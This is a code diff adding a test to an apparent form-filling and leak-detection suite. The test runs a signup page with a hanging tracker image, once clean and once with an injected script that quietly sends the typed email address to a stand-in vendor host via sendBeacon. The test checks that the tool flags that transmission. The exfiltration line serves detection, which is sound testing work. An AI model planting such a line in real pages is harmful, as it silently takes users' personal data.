@@ -33,6 +33,20 @@ test('a form in a tab, and one in a fold', async () => {
   expect(results(run)).toEqual(['empty refused-by-browser', 'full stopped']);
 });
 
+test('a page one of whose pictures never comes, as where a tracker is out of order, and that page with a leak', async () => {
+  const body = `<form action="/join" method="post">${email}<button>Subscribe</button></form><img src="https://collector.example/never.gif">`;
+  const leak = `document.getElementById('email').onchange = e => navigator.sendBeacon('https://vendor.test/b', e.target.value);`;
+  for (const script of ['', leak]) {
+    const page = formPage(body, script);
+    const { filled } = await fillOn(request =>
+      request.host === 'collector.example' ? { hangs: true } : serve(page)(request),
+    );
+    expect(filled.outcome).toEqual({ ok: true });
+    const leaving = filled.transmissions.filter(({ isSubmission }) => !isSubmission);
+    expect(leaving.map(({ host }) => host)).toEqual(script === '' ? [] : ['vendor.test']);
+  }
+});
+
 test('a form in three steps is walked to its end', async () => {
   const page = formPage(
     `<form action="/join" method="post" novalidate>
